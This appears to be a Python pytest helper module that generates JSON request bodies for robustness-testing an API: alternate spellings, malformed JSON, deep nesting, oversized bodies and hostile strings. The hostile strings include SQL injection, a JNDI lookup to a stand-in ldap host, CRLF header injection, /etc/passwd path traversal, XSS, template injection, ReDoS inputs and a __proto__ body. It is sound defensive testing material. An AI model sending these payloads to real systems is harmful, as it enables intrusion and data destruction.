"""What any API that takes a JSON object has to cope with: other spellings, wrong types, hostile content.

Bodies are given by a phrase that says what they are.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable, Mapping
from decimal import Decimal
from typing import Any
from urllib.parse import urlencode

import pytest

VALUES: dict[str, Any] = {
    "string": "100",
    "number": 100,
    "boolean": True,
    "null": None,
    "array": ["100"],
    "object": {"value": "100"},
}
# What a language without strict types takes for nothing, or for a string that is empty.
EMPTY: tuple[Any, ...] = (0, False, [], {})
HOSTILE_STRINGS = (
    "\x00",
    "a\x00b",
    "\ud800",
    "\U0001f4b8" * 50,
    "\u202etxet desrever",
    "\u200b",
    "\r\nX-Injected: yes",
    "'; DROP TABLE sessions; --",
    "https://[${jndi:ldap://a.invalid/x}",  # what looks things up finds it anywhere; what reads URLs can read none
    "{{7*7}}",
    "../../../etc/passwd",
    "<script>alert(1)</script>",
    "%s%n%x",
    "x" * 10_000,
    "9" * 400,
    "1e400",
    "-0",
    "a" * 255 + "@example.com",
)
# Around what would be refused for its form alone, before it comes to whatever it could break.
EMAIL_FORM, URL_FORM = "{}@example.com", "https://rampcheck.example/{}"
# E-mail addresses and URLs with quotes, letters outside ASCII, and letters that are compatible with others.
ODD_TEXTS = (
    ("o'Brien+Tag=1@Example.COM", "https://rampcheck.example/o'Brien+Tag=1?a='&b=1#o'Brien"),
    ("Zoe.Mueller@B\u00fccher.Example", "https://rampcheck.example/Zo\u00eb?a='&b=\"#\u0141\u0119cka"),
    ("\ufb01\uff21\u2460\u1e9b@Example.COM", "https://rampcheck.example/\ufb01\uff21\u2460?a='&b=\"#\u1e9b"),
)
# Backtracking pattern matchers take a time for these that doubles, or squares, with their length.
SLOW_EMAILS = (
    "a" * 60 + "!",
    "user@" + "a." * 60 + "!",
    "a@" + "-" * 5_000 + "!",
    "user" + " " * 5_000 + "@example.com",
)
# Headers of a body of JSON that says nothing of what it is, or what nobody knows.
OTHER_TYPES: Mapping[str, Mapping[str, str | None]] = {
    "JSON in no known charset": {"Content-Type": "application/json; charset=rampcheck"},
    "no media type at all": {"Content-Type": "nonsense"},
    "no `Content-Type`": {"Content-Type": None},
}
NEST = 20_000
MIB = 1 << 20


def each(prefix: str, names: Iterable[str]) -> list[Any]:
    """Gives a test's parameter for each field, marked with the field's own clause."""
    return [pytest.param(name, id=name, marks=pytest.mark.verifies(f"{prefix}.{name}")) for name in names]


def parts(number: int, size: int) -> pytest.MarkDecorator:
    """Cuts a scenario over a `number` of things into scenarios over `size` of them each: `part` is the slice to take.

    A run takes the scenarios in the order of what each shows for a request: of many alike, some are worth much more.
    """
    starts = range(0, number, size)
    slices = [slice(start, None if start == starts[-1] else start + size) for start in starts]  # the last one: the rest
    return pytest.mark.parametrize("part", slices, ids=[f"part{place}" for place in range(1, len(slices) + 1)])


def within(form: str, value: str) -> str:
    """Gives a hostile string as an address or URL that holds it; numbers, and what has a form, as they are.

    So is a long one in place of an address, the form of which is slow to look for where it is not there.
    """
    has_form = value.startswith("https:") or value.endswith("@example.com") or value[-1].isdigit()
    if has_form or (form == EMAIL_FORM and len(value) > 1_000):
        return value
    return form.replace("{}", value)


def long_email(size: int) -> str:
    """Gives an e-mail address of so many characters, nearly all of them before the @."""
    return "@example.com".rjust(size, "u")


def long_url(size: int) -> str:
    """Gives a URL of so many characters."""
    return URL_FORM.replace("{}", "").ljust(size, "x")


def other_types(kind: str) -> list[Any]:
    """Gives a value of every JSON type but `kind` and null; the string would pass for a number."""
    return [value for name, value in VALUES.items() if name not in (kind, "null")]


def spellings(value: dict[str, Any]) -> dict[str, bytes]:
    """Gives other spellings of the same JSON object (RFC 8259), each different from compact JSON."""
    texts = {
        "indented JSON": json.dumps(value, indent=4),
        "spaces after the separators": json.dumps(value),
        "white space around the JSON": f" \r\n\t{_compact(value)}\n",
        "the members in reverse order": _compact(dict(reversed(value.items()))),
        "the members in alphabetical order": json.dumps(value, separators=(",", ":"), sort_keys=True),
        "raw UTF-8": json.dumps(value, separators=(",", ":"), ensure_ascii=False),
        "every letter escaped": _spelled(value, string=_escaped),
        "numbers with a fraction": _spelled(value, number=_with_fraction),
        "numbers with an exponent": _spelled(value, number=_with_exponent),
    }
    bodies = {what: text.encode() for what, text in texts.items()}
    return {what: body for what, body in bodies.items() if body != _compact(value).encode()}


def _compact(value: Any) -> str:
    return json.dumps(value, separators=(",", ":"))


def _spelled(
    value: Any,
    string: Callable[[str], str] = _compact,
    number: Callable[[float], str] = _compact,
) -> str:
    match value:
        case dict():
            members = (f"{string(name)}:{_spelled(member, string, number)}" for name, member in value.items())
            return "{" + ",".join(members) + "}"
        case list():
            return "[" + ",".join(_spelled(item, string, number) for item in value) + "]"
        case str():
            return string(value)
        case bool() | None:
            return _compact(value)
    return number(value)


def _escaped(text: str) -> str:
    units = text.encode("utf-16-be", "surrogatepass")
    return '"' + "".join(f"\\u{units[at : at + 2].hex()}" for at in range(0, len(units), 2)) + '"'


def _with_fraction(number: float) -> str:
    digits = f"{Decimal(str(number)):f}"
    return f"{digits}0" if "." in digits else f"{digits}.0"


def _with_exponent(number: float) -> str:
    return f"{Decimal(str(number)):e}".replace("+", "")


def not_json(body: bytes) -> dict[str, bytes]:
    """Gives bodies that no JSON parser may take (RFC 8259), made of one that is a JSON object."""
    return {
        "an empty body": b"",
        "JSON without its last byte": body[:-1],
        "JSON with a trailing comma": body[:-1] + b",}",
        "JSON in single quotes": body.replace(b'"', b"'"),
        "JSON with a comment": body[:-1] + b"/* note */}",
        "JSON followed by JSON": body + b"{}",
        "a form": urlencode(json.loads(body)).encode(),
        "JSON with a name without quotes": body.replace(b'"', b"", 2),
        "JSON with a tab in a string": body[:-1] + b',"note":"\t"}',
    }


def perhaps_json(body: bytes) -> dict[str, bytes]:
    """Gives bodies that are no JSON but for parsers that take more (RFC 8259 section 9), made of a JSON object."""
    return {
        "JSON with a NaN and an Infinity": body[:-1] + b',"note":[NaN,-Infinity]}',
    }


def not_object(body: bytes) -> dict[str, bytes]:
    """Gives bodies that are JSON and no object; some of them have the object `body` inside."""
    return {
        "the object in an array": b"[" + body + b"]",
        "the object in a string": json.dumps(body.decode()).encode(),
        "an empty array": b"[]",
        "a string": b'"session"',
        "a number": b"100",
        "null": b"null",
        "true": b"true",
    }


def hostile_bodies(body: bytes) -> dict[str, bytes]:
    """Gives bodies that a parser or what comes after it may fall over, made of one that is a JSON object."""
    inner, head = body[1:-1], body[:-1]
    return {
        f"{NEST:,} levels of nesting": head + b',"note":' + b"[" * NEST + b"]" * NEST + b"}",
        **{
            f"{levels} levels of nesting": head + b',"note":' + b'{"of":' * levels + b"1" + b"}" * levels + b"}"
            for levels in (3, 11, 33)
        },
        **{
            f"{size:,} bytes": head + b',"note":"' + b"x" * (size - len(head) - len(b',"note":""}')) + b'"}'
            for size in ((1 << 16) - 1, (1 << 16) + 1, MIB - 1, MIB + 1)
        },
        "a member with a long name": head + b',"' + b"x" * 2_000 + b'":"x"}',
        "a number of 5,000 digits": head + b',"note":' + b"9" * 5000 + b"}",
        "every member twice": b"{" + inner + b"," + inner + b"}",
        "a member without a name": head + b',"":""}',
        "a `__proto__`": head + b',"__proto__":{"type":"sell"}}',
        "an undocumented member": head + b',"rampcheck":{"note":[1,"x",null]}}',
        "1,000 more members": head + b"".join(b',"note%d":"x"' % number for number in range(1000)) + b"}",
        "bytes that are no UTF-8": head + b',"note":"\xff\xfe"}',
        "a byte order mark": b"\xef\xbb\xbf" + body,
        "UTF-16": body.decode().encode("utf-16"),
        "an object without members": b"{}",
    }
